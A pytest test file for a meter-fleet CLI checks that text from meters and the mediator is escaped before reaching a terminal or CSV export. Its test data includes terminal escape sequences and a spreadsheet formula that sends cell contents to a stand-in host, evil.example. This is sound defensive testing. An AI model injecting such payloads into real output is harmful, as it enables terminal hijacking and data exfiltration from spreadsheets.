"""Text from meters and the mediator, on its way to a terminal or a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest

from norvo_halvex.mediator.simulator import Fault
from norvo_halvex.untrusted import for_csv_cell, for_terminal

TITLE = "\x1b]0;owned\x07"  # sets the terminal's title
CLEAR = "\x1b[2J"


@pytest.mark.parametrize(
    "text, shown",
    [
        ("plain text, ünïcode", "plain text, ünïcode"),
        (TITLE + "x", "\\x1b]0;owned\\x07x"),
        ("a\rb\nc\td", "a\\rb\\nc\\td"),
        ("\x00\x7f\x9b[31m", "\\x00\\x7f\\x9b[31m"),  # 0x9b starts a sequence on its own
        ("abc\u202edcba", "abc\\u202edcba"),  # right-to-left override
        ("line\u2028break", "line\\u2028break"),
        (42, "42"),
    ],
)
def test_for_terminal_writes_control_characters_out(text, shown):
    assert for_terminal(text) == shown
    assert for_terminal(shown) == shown  # escaping twice changes nothing


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1 phone", "'+1 phone"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # numeric text stays a number
        ("+3e2", "+3e2"),
        ("a=b", "a=b"),
        ("", ""),
        (-12.5, -12.5),
        (None, None),
    ],
)
def test_for_csv_cell_guards_formulas_and_leaves_numbers(value, cell):
    assert for_csv_cell(value) == cell


@pytest.mark.parametrize("json_mode", [False, True])
def test_an_escape_sequence_in_a_mediator_detail_reaches_the_terminal_escaped(cli, simulator, json_mode):
    simulator.fleet.set_fault("HX1000001", Fault(status="INTERNAL", details=f"{TITLE}broken{CLEAR}\u009b"))
    run = cli("--mediator", simulator.address, *(["--json"] if json_mode else []), "voltage", "HX1000001")
    assert run.code == 4
    assert "\x1b" not in run.err + run.out and "\x9b" not in run.err + run.out
    assert run.err.rstrip("\n").endswith("mediator error (INTERNAL): \\x1b]0;owned\\x07broken\\x1b[2J\\x9b")
    if json_mode:  # JSON keeps the text, written with escapes
        assert run.json()["error"]["message"] == f"{TITLE}broken{CLEAR}\u009b"


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_log_lines_carry_mediator_text_escaped(cli, simulator, fmt):
    # A failed total is logged by the library with the mediator's detail in it.
    simulator.fleet.set_fault("HX3000001", Fault(status="INTERNAL", details=f"bad{CLEAR}total\u009b",
                                                 object_ids=["three_phase_total_reactive_import"]))
    run = cli("--mediator", simulator.address, "--log-format", fmt, "read", "HX3000001")
    assert run.code == 6
    logged = [line for line in run.err.splitlines() if "Failed to read element" in line]
    assert len(logged) == 1
    assert "\x1b" not in run.err and "\x9b" not in run.err
    if fmt == "json":
        entry = json.loads(logged[0])
        assert entry["level"] == "error" and entry["serial"] == "HX3000001"
        assert f"bad{CLEAR}total\u009b" in entry["event"]
    else:
        assert "bad\\x1b[2Jtotal\\x9b" in logged[0]


def test_a_formula_in_a_mediator_detail_is_guarded_in_the_fleet_csv(cli, simulator):
    detail = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    simulator.fleet.set_fault("HX1000002", Fault(status="INTERNAL", details=detail))
    simulator.fleet.set_fault("HX1000001", Fault(status="INTERNAL", details=f"{TITLE}-1"))
    run = cli("--mediator", simulator.address, "fleet", "HX1000001", "HX1000002", "HX3000001")
    assert run.code == 6
    rows = {row["serial"]: row for row in csv.DictReader(io.StringIO(run.out))}
    assert rows["HX1000002"]["error_message"] == "'" + detail
    assert rows["HX1000001"]["error_message"] == "\\x1b]0;owned\\x07-1"
    assert rows["HX3000001"]["status"] == "ok"
    assert all(not value.startswith("'") for value in rows["HX3000001"].values())  # numbers untouched
    assert "\x1b" not in run.out + run.err
